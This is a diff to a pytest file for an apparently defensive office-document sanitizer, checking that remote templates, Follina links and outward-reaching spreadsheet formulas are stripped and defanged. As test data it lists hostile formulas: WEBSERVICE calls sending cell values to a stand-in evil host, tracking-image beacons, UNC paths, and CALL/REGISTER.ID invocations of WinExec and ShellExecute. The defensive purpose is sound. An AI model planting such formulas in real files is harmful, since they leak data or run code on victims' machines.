@@ -9,12 +9,14 @@ import zipfile
 import docx
 import openpyxl
 import pytest
+from lxml import etree
 
 from gateway.errors import CannotSanitize
 from gateway.sanitizers.base import SanitizeOptions
 from gateway.sanitizers.ole import soffice_path
 from gateway.sanitizers.ooxml import OoxmlSanitizer
 from tests.helpers import hostile, oracle
+from tests.text.linkify import live_links
 
 SANITIZER = OoxmlSanitizer()
 
@@ -65,8 +67,8 @@ def test_remote_template_and_follina_link_removed() -> None:
     result = _sanitize(data, "a.docx")
     detail = next(f.detail for f in result.findings if f.code == "OOXML_EXTERNAL_RELATIONSHIP")
     assert "attachedtemplate -> hxxps://evil[.]example/template.dotm" in detail
-    # The Follina link is named in the evidence (whether it is defanged there: see below).
-    assert "oleobject -> mhtml:" in detail
+    # The Follina link is named in the evidence, defanged (see below).
+    assert "oleobject -> mhtml[:]" in detail
     output = result.outputs[0].data
     assert oracle.office_active_content(output, ".docx") == []
     document = zipfile.ZipFile(io.BytesIO(output)).read("word/document.xml")
@@ -74,17 +76,14 @@ def test_remote_template_and_follina_link_removed() -> None:
     assert _paragraphs(output) == _paragraphs(hostile.benign_docx())
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="gateway/sanitizers/ooxml.py writes the evidence of _DROP_REL_TYPES targets "
-    "without _defang: the mhtml: target is a live URL in the finding detail (logs, UI). The "
-    "old assertion hid it behind `or` (issue 12, item 9). Remove this mark with the fix.",
-)
 def test_removed_link_evidence_is_defanged_like_the_template() -> None:
     result = _sanitize(hostile.docx_remote_template(), "a.docx")
     detail = next(f.detail for f in result.findings if f.code == "OOXML_EXTERNAL_RELATIONSHIP")
-    assert "oleobject -> mhtml:hxxps://evil[.]example/x.html" in detail
+    # The shared defanger's form for an opaque scheme (as in a body): "mhtml[:]", then the
+    # web URL inside it defanged like the template's.
+    assert "oleobject -> mhtml[:]hxxps://evil[.]example/x.html" in detail
     assert "https://" not in detail
+    assert live_links(detail) == [], detail
 
 
 def test_dde_fields_unlinked_results_kept() -> None:
@@ -159,3 +158,130 @@ def test_both_with_libreoffice() -> None:
     result = SANITIZER.sanitize(hostile.docm(), "a.docm", "1", SanitizeOptions(mode="both"))
     assert [o.filename for o in result.outputs] == ["a.docx", "a_画像化.pdf"]
     assert oracle.pdf_active_content(result.outputs[1].data) == []
+
+
+# --- formulas that fetch from outside (RT-09) -------------------------------------------------
+
+
+def _workbook(cells: dict[str, tuple[str, str]], defined_names: str = "") -> bytes:
+    """An xlsx whose sheet has ``cells``: {ref: (formula, cached value as Excel saved it)}.
+    A text cached value is a formula-string cell (``t="str"``), as Excel writes it."""
+    book = openpyxl.Workbook()
+    book.active["A1"] = "集計"
+    for ref, (formula, _cached) in cells.items():
+        book.active[ref] = "=" + formula
+    out = io.BytesIO()
+    book.save(out)
+    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    root = etree.fromstring(zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml"))
+    for cell in root.iter(ns + "c"):
+        if cell.get("r") in cells:
+            formula, cached = cells[cell.get("r")]
+            assert cell.findtext(ns + "f") == formula
+            cell.find(ns + "v").text = cached
+            if not cached.replace(".", "").isdigit():
+                cell.set("t", "str")
+    sheet = etree.tostring(root).decode()
+    changes: dict[str, bytes | None] = {"xl/worksheets/sheet1.xml": sheet.encode()}
+    if defined_names:
+        workbook = zipfile.ZipFile(out).read("xl/workbook.xml").decode()
+        workbook = workbook.replace(
+            "</sheets>", f"</sheets><definedNames>{defined_names}</definedNames>"
+        )
+        changes["xl/workbook.xml"] = workbook.encode()
+    return hostile._rewrite_zip(out.getvalue(), changes)
+
+
+def _cells(data: bytes) -> dict[str, tuple[str | None, str | None]]:
+    """{ref: (formula or None, the value a reader shows)} of the first sheet, read as XML."""
+    ns = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    root = etree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
+    out = {}
+    for cell in root.iterfind(".//s:c", ns):
+        formula = cell.findtext("s:f", namespaces=ns)
+        value = cell.findtext("s:v", namespaces=ns) or cell.findtext("s:is/s:t", namespaces=ns)
+        out[cell.get("r")] = (formula, value)
+    return out
+
+
+REACHING_OUT = [
+    ("'\\\\10.0.0.5\\share\\[book.xlsx]Sheet1'!A1", "OOXML_EXTERNAL_REFERENCE"),
+    (
+        "SUM('\\\\fs.example.jp@SSL\\DavWWWRoot\\[b.xlsx]売上 2026'!A1:A9)",
+        "OOXML_EXTERNAL_REFERENCE",
+    ),
+    ("'https://evil.example.jp/[book.xlsx]Sheet1'!A1", "OOXML_EXTERNAL_REFERENCE"),
+    ("'file:///C:/x/[book.xlsx]Sheet1'!A1", "OOXML_EXTERNAL_REFERENCE"),
+    ("[1]Sheet1!A1+1", "OOXML_EXTERNAL_REFERENCE"),  # index into a removed externalLink part
+    ("\\\\10.0.0.5\\share\\[book.xlsx]Sheet1!A1", "OOXML_EXTERNAL_REFERENCE"),
+    ('IMAGE("https://evil.example.jp/beacon.png")', "OOXML_FORMULA_REMOVED"),
+    ('_xlfn.IMAGE("https://evil.example.jp/beacon.png",,0)', "OOXML_FORMULA_REMOVED"),
+    ('WEBSERVICE("https://evil.example.jp/?q="&A1)', "OOXML_FORMULA_REMOVED"),
+    ('FILTERXML(WEBSERVICE("https://evil.example.jp/x"),"//a")', "OOXML_FORMULA_REMOVED"),
+    ('RTD("evil.server",,"x")', "OOXML_FORMULA_REMOVED"),
+    ('CALL("kernel32","WinExec","JCJ","calc",0)', "OOXML_FORMULA_REMOVED"),
+    ('REGISTER.ID("shell32","ShellExecuteA")', "OOXML_FORMULA_REMOVED"),
+    ('SQL.REQUEST("DSN=x",,2,"select 1")', "OOXML_FORMULA_REMOVED"),
+    ('HYPERLINK("\\\\10.0.0.5\\share\\a.exe","open")', "OOXML_FORMULA_REMOVED"),
+]
+
+
+@pytest.mark.parametrize(("formula", "code"), REACHING_OUT, ids=[f[:40] for f, _ in REACHING_OUT])
+def test_formulas_that_reach_out_become_their_cached_values(formula: str, code: str) -> None:
+    data = _workbook(
+        {"A2": (formula, "1234"), "A3": (formula, "前回の値"), "A4": ("SUM(1,2)", "3")}
+    )
+    result = _sanitize(data, "集計.xlsx")
+    cells = _cells(result.outputs[0].data)
+    assert cells["A2"] == (None, "1234")
+    assert cells["A3"] == (None, "前回の値")
+    assert cells["A4"] == ("SUM(1,2)", "3")  # an ordinary formula stays
+    workbook = openpyxl.load_workbook(io.BytesIO(result.outputs[0].data))
+    assert workbook.active["A3"].value == "前回の値"
+    assert workbook.active["A3"].data_type == "s"
+    detail = next(f.detail for f in result.findings if f.code == code)
+    assert "A2" in detail or "sheet1" in detail
+    assert live_links(detail) == [], detail
+    assert "10.0.0.5" not in detail
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(B1:B5)",
+        "'売上 2026'!A1*2",
+        "SUM(Table1[金額])+Sheet2!A1",
+        "Table1[[#This Row],[金額]]",
+        "[@金額]*1.1",
+        'IF(A1="","",VLOOKUP(A1,\'My Sheet\'!A:B,2,FALSE))',
+        'CONCAT("IMAGE","(")',
+    ],
+)
+def test_ordinary_formulas_are_kept(formula: str) -> None:
+    result = _sanitize(_workbook({"A2": (formula, "1")}), "a.xlsx")
+    assert _cells(result.outputs[0].data)["A2"] == (formula, "1")
+    assert result.findings == ()
+
+
+def test_shared_formula_followers_go_with_their_master() -> None:
+    data = _workbook({"A2": ("'\\\\10.0.0.5\\s\\[b.xlsx]S'!A1", "7"), "A3": ("SUM(1,2)", "3")})
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    sheet = sheet.replace("<f>'", '<f t="shared" ref="A2:A3" si="0">\'').replace(
+        "<f>SUM(1,2)</f>", '<f t="shared" si="0"/>'
+    )
+    data = hostile._rewrite_zip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})
+    cells = _cells(_sanitize(data, "a.xlsx").outputs[0].data)
+    assert cells["A2"] == (None, "7")
+    assert cells["A3"] == (None, "3")
+
+
+def test_defined_names_that_reach_out_are_removed() -> None:
+    names = (
+        "<definedName name=\"remote\">'\\\\10.0.0.5\\s\\[b.xlsx]S'!$A$1</definedName>"
+        '<definedName name="local">Sheet!$A$1</definedName>'
+    )
+    result = _sanitize(_workbook({"A2": ("remote", "5")}, names), "a.xlsx")
+    workbook = zipfile.ZipFile(io.BytesIO(result.outputs[0].data)).read("xl/workbook.xml")
+    assert b"10.0.0.5" not in workbook
+    assert b'name="local"' in workbook
+    assert "OOXML_EXTERNAL_REFERENCE" in {f.code for f in result.findings}
